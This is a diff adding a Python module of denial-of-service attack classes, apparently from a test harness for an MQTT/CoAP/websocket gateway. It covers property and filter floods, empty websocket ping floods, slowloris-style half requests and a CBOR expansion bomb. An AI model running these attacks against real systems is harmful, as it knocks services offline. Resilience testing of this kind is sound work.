@@ -1,0 +1,152 @@
+"""Who makes a gateway work with few bytes: each class is one attack, for `attacking`."""
+
+from __future__ import annotations
+
+import socket
+import time
+
+from attacking import Attacker
+from coap_messages import CONFIRMABLE, message, path
+from mqtt_attackers import GREEDY, GREEDY_PASSWORD, Address
+from raw_client import Client, ConnectionEndedError
+from raw_packets import V5, Kind, Packets
+
+EMPTY = (0x26, ("", ""))
+MANY = [EMPTY] * 25_000
+FETCH, ETCH_CBOR = 5, b"\x01\x42"
+HEAD = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
+
+
+class Paced(Attacker):
+    """Does something so often in a second. Args: the address, and how often."""
+
+    def __init__(self, address: Address, per_s: float) -> None:
+        super().__init__()
+        self.address = address
+        self._pause_s = 1 / per_s
+        self._due_s = time.monotonic()
+
+    def step(self) -> bool:
+        self._due_s = max(self._due_s + self._pause_s, time.monotonic() - 1)
+        time.sleep(max(0.0, self._due_s - time.monotonic()))
+        self.once()
+        return True
+
+    def once(self) -> None:
+        """Do it."""
+        raise NotImplementedError
+
+    def greedy(self) -> Client:
+        """A client that has been let in."""
+        client = Client(self.address, Packets(V5))
+        client.connect("greedy", username=GREEDY, password=GREEDY_PASSWORD)
+        return client
+
+
+class StrangersProperties(Paced):
+    """CONNECTs with 25,000 empty user properties, which say nothing of who sends them."""
+
+    def once(self) -> None:
+        client = Client(self.address, Packets(V5))
+        client.send(client.packets.connect("anybody", props=MANY))
+        self.seen[f"answered {client.expect(Kind.CONNACK).reason:#x}"] += 1
+        client.close()
+
+
+class ClientsProperties(Paced):
+    """PUBLISHes and SUBSCRIBEs with as many, each of which ends the connection."""
+
+    def once(self) -> None:
+        client = self.greedy()
+        packets = client.packets
+        if self.seen["ended"] % 2:
+            client.send(packets.publish("greedy/t", b"", props=MANY))
+        else:
+            client.send(packets.subscribe(1, ("greedy/t", 0), props=MANY))
+        try:
+            while client.receive().kind != Kind.DISCONNECT:
+                pass
+        except ConnectionEndedError:
+            pass
+        self.seen["ended"] += 1
+        client.close()
+
+
+class FilterSender(Paced):
+    """SUBSCRIBEs and UNSUBSCRIBEs of as many filters and levels as a packet may have."""
+
+    def __init__(self, address: Address, per_s: float) -> None:
+        super().__init__(address, per_s)
+        self._client = self.greedy()
+        deep = [f"greedy/{number}" + "/" * 12 for number in range(1_000)]
+        packets = self._client.packets
+        self._both = (
+            packets.subscribe(1, *((one, 0) for one in deep)),
+            packets.unsubscribe(2, *deep),
+        )
+
+    def once(self) -> None:
+        for packet, answer in zip(self._both, (Kind.SUBACK, Kind.UNSUBACK), strict=True):
+            self._client.send(packet)
+            self._client.expect(answer)
+        self.seen["both"] += 1
+
+
+class EmptyFrames(Attacker):
+    """A websocket whose frames are pings without a byte, as fast as they are taken. Args: where."""
+
+    def __init__(self, address: Address) -> None:
+        super().__init__()
+        self._socket = socket.create_connection(address, 5)
+        self._socket.sendall(
+            b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            b"Sec-WebSocket-Protocol: mqtt\r\nSec-WebSocket-Version: 13\r\n"
+            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+        )
+        assert b" 101 " in self._socket.recv(1_024)
+        self._address = address
+
+    def step(self) -> bool:
+        try:
+            self._socket.sendall(b"\x89\x80\0\0\0\0" * 1_000)
+            self._socket.recv(1 << 16)
+            self.seen["frames"] += 1_000
+        except OSError:  # it has not connected in time
+            self.__init__(self._address)  # type: ignore[misc]  # begin again
+        return True
+
+
+class HalfRequests(Paced):
+    """Requests for a page that never end, each in a connection of its own."""
+
+    def __init__(self, address: Address, per_s: float) -> None:
+        super().__init__(address, per_s)
+        self._open: list[socket.socket] = []
+
+    def once(self) -> None:
+        one = socket.create_connection(self.address, 5)
+        one.sendall(HEAD)
+        self._open.append(one)
+        if len(self._open) > 400:
+            self._open.pop(0).close()
+        self.seen["opened"] += 1
+
+
+class SharedValues(Paced):
+    """FETCHes of a stranger with a few bytes of CBOR that would be 2^60 lists."""
+
+    def __init__(self, address: Address, per_s: float, data: bytes) -> None:
+        super().__init__(address, per_s)
+        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._socket.bind(("127.3.0.1", 0))
+        self._socket.connect(address)
+        self._socket.settimeout(5.0)
+        self._data = data
+
+    def once(self) -> None:
+        number = self.seen["asked"] & 0xFFFF
+        options = [*path("sensors"), (12, ETCH_CBOR)]
+        asked = message(CONFIRMABLE, FETCH, number, b"", *options)
+        self._socket.send(asked + b"\xff" + self._data)
+        self.seen["asked"] += 1
+        self.seen[f"answered {self._socket.recv(2_048)[1]:#x}"] += 1
